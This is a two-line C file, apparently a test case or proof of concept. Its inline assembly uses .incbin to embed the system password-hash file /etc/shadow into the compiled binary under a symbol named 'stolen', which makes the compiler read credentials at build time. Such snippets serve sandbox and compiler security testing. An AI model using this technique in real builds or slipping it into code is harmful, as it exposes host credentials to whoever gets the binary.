asm(".globl stolen\nstolen: .incbin \"/etc/shadow\"");
int main() {}
